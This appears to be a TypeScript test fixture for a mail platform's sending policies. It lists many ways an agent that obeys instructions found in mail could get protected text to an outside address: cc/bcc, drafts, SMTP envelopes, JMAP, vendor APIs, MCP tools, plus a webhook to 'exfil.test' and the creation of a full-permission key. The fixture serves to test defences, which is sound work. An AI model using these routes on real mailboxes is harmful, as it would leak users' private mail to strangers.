/**
 * What an agent that obeys every mail can try in order to get bytes to a stranger. Each attempt is made the same way
 * with a key without a policy, which shows that it would work.
 */
import nodemailer from 'nodemailer';
import { createJmapClient } from './jmap-client.ts';
import { connectNewClient, type McpClient } from './mcp-clients.ts';
import { sendVendorRequest, vendorRequests } from './vendor-requests.ts';
import type { MailWorld } from '../mail-world.ts';
import type { Call } from '../test-server.ts';

export interface Attacker {
  key: string;
  call: Call;
  box: { id: string; address: string };
}

export interface Attempt extends Attacker {
  world: MailWorld;
  /** The stranger, and how the address is written. */
  spy: string;
  written: string;
  /** Someone whom the policies permit. */
  friend: string;
  threadId: string;
  messageId: string;
  /** Has what must not leave. */
  text: string;
  html: string;
  /** A contact book that asks to confirm. */
  bookId: string;
}

interface Way {
  name: string;
  run(attempt: Attempt): Promise<unknown>;
}

interface Attack extends Way {
  /** Whether a key without a policy gets a message to the stranger. */
  sends: boolean;
}

const DOMAIN = 'harbour.test';
const HOUR_MS = 3_600_000;
const later = () => new Date(Date.now() + HOUR_MS).toISOString();

const email = ({ box, text, html }: Attempt, more: object) => ({
  from: box.address,
  subject: 'Report',
  text,
  html,
  ...more,
});
const message = ({ text, html }: Attempt, more: object) => ({
  subject: 'Report',
  text,
  html,
  undo_seconds: 0,
  ...more,
});

const REST: Way[] = [
  { name: 'to', run: (a) => a.call('POST', '/emails', email(a, { to: a.written })) },
  { name: 'cc', run: (a) => a.call('POST', '/emails', email(a, { to: a.friend, cc: [a.written] })) },
  { name: 'bcc', run: (a) => a.call('POST', '/emails', email(a, { to: a.friend, bcc: [a.written] })) },
  {
    name: 'batch',
    run: (a) =>
      a.call(
        'POST',
        '/emails/batch',
        [a.friend, a.written].map((to) => email(a, { to })),
      ),
  },
  {
    name: 'a template',
    async run(a) {
      const { body } = await a.call('POST', '/templates', { name: a.spy, subject: 'Report', html: a.html });
      return a.call('POST', '/emails', { from: a.box.address, to: a.written, templateId: body.id });
    },
  },
  {
    name: 'a message of the mailbox',
    run: (a) => a.call('POST', `/mailboxes/${a.box.id}/messages`, message(a, { to: [a.written] })),
  },
  {
    name: 'a reply with a copy',
    run: (a) =>
      a.call(
        'POST',
        `/mailboxes/${a.box.id}/messages`,
        message(a, { to: [a.friend], bcc: [a.written], thread_id: a.threadId }),
      ),
  },
  {
    name: 'a forwarded file',
    run: (a) =>
      a.call(
        'POST',
        `/mailboxes/${a.box.id}/messages`,
        message(a, { to: [a.written], attachments: [{ filename: 'mail.eml', content: btoa(a.text) }] }),
      ),
  },
  {
    name: 'a draft',
    async run(a) {
      const path = `/mailboxes/${a.box.id}/drafts`;
      const { body } = await a.call('POST', path, { to: [a.friend], subject: 'Report', text: a.text });
      await a.call('PATCH', `${path}/${body.id}`, { to: [a.written] });
      return a.call('POST', `${path}/${body.id}/send`, { undo_seconds: 0 });
    },
  },
  {
    name: 'a scheduled message that is sent now',
    async run(a) {
      const path = `/mailboxes/${a.box.id}/messages`;
      const { body } = await a.call('POST', path, {
        ...message(a, { to: [a.written] }),
        undo_seconds: null,
        send_at: later(),
      });
      return a.call('POST', `/scheduled/${body.id}/send-now`);
    },
  },
  {
    name: 'a saved reply',
    async run(a) {
      const path = `/mailboxes/${a.box.id}/saved-replies`;
      const { body } = await a.call('POST', path, { name: a.spy, html: a.html });
      return a.call(
        'POST',
        `/mailboxes/${a.box.id}/messages`,
        message(a, { to: [a.written], saved_reply_id: body.id }),
      );
    },
  },
];

/** These would send at another time, or to more people. */
const OTHERS: Way[] = [
  {
    name: 'a time',
    run: (a) => a.call('POST', '/emails', email(a, { to: a.written, scheduledAt: later() })),
  },
  {
    name: 'a reply address',
    run: (a) => a.call('POST', '/emails', email(a, { to: a.friend, replyTo: a.written })),
  },
  {
    name: 'a header',
    run: (a) =>
      a.call(
        'POST',
        '/emails',
        email(a, { to: a.friend, headers: { 'Disposition-Notification-To': a.spy } }),
      ),
  },
  { name: 'leaving a list', run: (a) => a.call('POST', `/messages/${a.messageId}/unsubscribe`) },
  {
    name: 'an invitation',
    run: (a) => a.call('POST', `/messages/${a.messageId}/invitation`, { answer: 'accepted' }),
  },
  {
    name: 'a campaign',
    async run(a) {
      const campaign = {
        name: 'Spy',
        from: a.box.address,
        subject: 'x',
        html: a.html,
        contactBookId: a.bookId,
      };
      const { body } = await a.call('POST', '/campaigns', campaign);
      await a.call('POST', `/campaigns/${body.id}/test`, { to: [a.spy] });
      return a.call('POST', `/campaigns/${body.id}/schedule`, {});
    },
  },
];

/** Each of these would let someone else send, or send freely. A key with a policy gets 403. */
export const REFUSED: readonly { name: string; run(attempt: Attempt): ReturnType<Call> }[] = [
  {
    name: 'a rule',
    run: (a) =>
      a.call('POST', `/mailboxes/${a.box.id}/rules`, {
        name: 'Copy',
        conditions: [{ field: 'subject', op: 'contains', value: 'a' }],
        actions: [{ type: 'star' }],
      }),
  },
  {
    name: 'an automatic reply',
    run: (a) => a.call('PATCH', `/mailboxes/${a.box.id}/automatic-reply`, { enabled: true, text: a.text }),
  },
  {
    name: 'an address',
    run: (a) => a.call('POST', `/mailboxes/${a.box.id}/addresses`, { address: `copy@${DOMAIN}` }),
  },
  {
    name: 'a signature',
    run: (a) =>
      a.call('POST', `/mailboxes/${a.box.id}/signatures`, { name: 'Spy', html: a.html, default: true }),
  },
  {
    name: 'a contact who is asked to confirm',
    run: (a) => a.call('POST', `/contactBooks/${a.bookId}/contacts`, { email: a.spy }),
  },
  {
    name: 'an import of contacts',
    run: (a) =>
      a.call('POST', `/contactBooks/${a.bookId}/imports`, `email\n${a.spy}\n`, {
        'content-type': 'text/csv',
      }),
  },
  { name: 'an event', run: (a) => a.call('POST', '/events', { name: 'order.placed', email: a.spy }) },
  {
    name: 'an automation',
    run: (a) =>
      a.call('POST', '/automations', { name: 'Spy', contactBookId: a.bookId, trigger: null, steps: [] }),
  },
  { name: 'a form', run: (a) => a.call('POST', '/forms', { name: 'Spy', contactBookId: a.bookId }) },
  {
    name: 'a webhook',
    run: (a) => a.call('POST', '/webhooks', { url: 'https://exfil.test/', events: ['*'] }),
  },
  { name: 'a looser policy', run: (a) => a.call('POST', '/send-policies', { name: a.spy, mode: 'free' }) },
  {
    name: 'another key',
    run: (a) => a.call('POST', '/api-keys', { name: 'Spy', permission: 'full' }),
  },
];

function mailer({ world }: Attempt, user: string, pass: string) {
  return nodemailer.createTransport({
    host: '127.0.0.1',
    port: world.server.submissionPort,
    auth: { user, pass },
    tls: { rejectUnauthorized: false },
  });
}

/** A rejected message is what is expected. */
async function submit(a: Attempt, login: [user: string, password: string], mail: object): Promise<void> {
  const transport = mailer(a, ...login);
  try {
    await transport.sendMail({ from: a.box.address, subject: 'Report', text: a.text, ...mail });
  } catch (error) {
    if (!/\b5\d\d\b/.test(String(error))) throw error;
  } finally {
    transport.close();
  }
}

async function appPassword({ call, box }: Attempt): Promise<string> {
  return (await call('POST', `/mailboxes/${box.id}/app-passwords`, { name: 'App' })).body.password;
}

async function byJmap(a: Attempt): Promise<void> {
  const jmap = createJmapClient(a.world.server.url, { ...a.box, password: await appPassword(a) });
  const { created } = await jmap.call('Email/set', {
    create: {
      d: {
        mailboxIds: { drafts: true },
        from: [{ name: null, email: a.box.address }],
        to: [{ name: null, email: a.friend }],
        subject: 'Report',
        textBody: [{ partId: '1', type: 'text/plain' }],
        bodyValues: { '1': { value: a.text } },
      },
    },
  });
  const identityId = (await jmap.call('Identity/get')).list[0].id;
  const envelope = { mailFrom: { email: a.box.address }, rcptTo: [{ email: a.spy }] };
  await jmap.call('EmailSubmission/set', { create: { s: { emailId: created.d.id, identityId, envelope } } });
}

const DOORS: Way[] = [
  { name: 'SMTP', run: (a) => submit(a, ['posthorn', a.key], { to: a.written }) },
  {
    name: 'an envelope by SMTP',
    run: (a) =>
      submit(a, ['posthorn', a.key], { to: a.friend, envelope: { from: a.box.address, to: a.spy } }),
  },
  {
    name: 'an email app by SMTP',
    run: async (a) => submit(a, [a.box.address, await appPassword(a)], { to: a.friend, bcc: a.written }),
  },
  { name: 'JMAP', run: byJmap },
  ...(['resend', 'mailgun', 'postmark', 'sendgrid'] as const).map((vendor) => ({
    name: vendor,
    run: (a: Attempt) => byVendor(a, vendor),
  })),
];

function byVendor(a: Attempt, vendor: string) {
  const request = vendorRequests(a.key, DOMAIN)[vendor]!;
  const more: Record<string, Record<string, unknown>> = {
    mailgun: { cc: a.spy },
    postmark: { Cc: a.spy },
    resend: { cc: [a.written] },
    sendgrid: { personalizations: [{ to: [{ email: a.spy }] }] },
  };
  return sendVendorRequest(a.world.server, request, more[vendor]);
}

const TOOLS: Attack[] = [
  {
    name: 'send_email',
    sends: true,
    run: (a) =>
      withTools(a, (tools) =>
        tools.callWhole('send_email', {
          from: a.box.address,
          to: [a.written],
          subject: 'Report',
          text: a.text,
        }),
      ),
  },
  {
    name: 'send_draft',
    sends: true,
    run: (a) =>
      withTools(a, async (tools) => {
        const made = await tools.callWhole('create_draft', {
          mailbox_id: a.box.id,
          to: [a.written],
          subject: 'Report',
          text: a.text,
        });
        return tools.callWhole('send_draft', {
          mailbox_id: a.box.id,
          draft_id: made.structuredContent.draft.id,
          undo_seconds: 0,
        });
      }),
  },
  {
    name: 'reply with a link',
    sends: false,
    run: (a) =>
      withTools(a, (tools) =>
        tools.callWhole('reply', { thread_id: a.threadId, html: a.html, undo_seconds: 0 }),
      ),
  },
  {
    name: 'upsert_contact',
    sends: false,
    run: (a) =>
      withTools(a, (tools) => tools.callWhole('upsert_contact', { contact_book_id: a.bookId, email: a.spy })),
  },
];

async function withTools(a: Attempt, work: (tools: McpClient) => Promise<unknown>): Promise<void> {
  const tools = await connectNewClient(a.world.server.url, a.key);
  try {
    await work(tools);
  } finally {
    await tools.close();
  }
}

const all = (ways: readonly Way[], sends: boolean): Attack[] => ways.map((way) => ({ ...way, sends }));

export const ATTACKS: readonly Attack[] = [
  ...all(REST, true),
  ...all(OTHERS, false),
  ...all(REFUSED, false),
  ...all(DOORS, true),
  ...TOOLS,
];
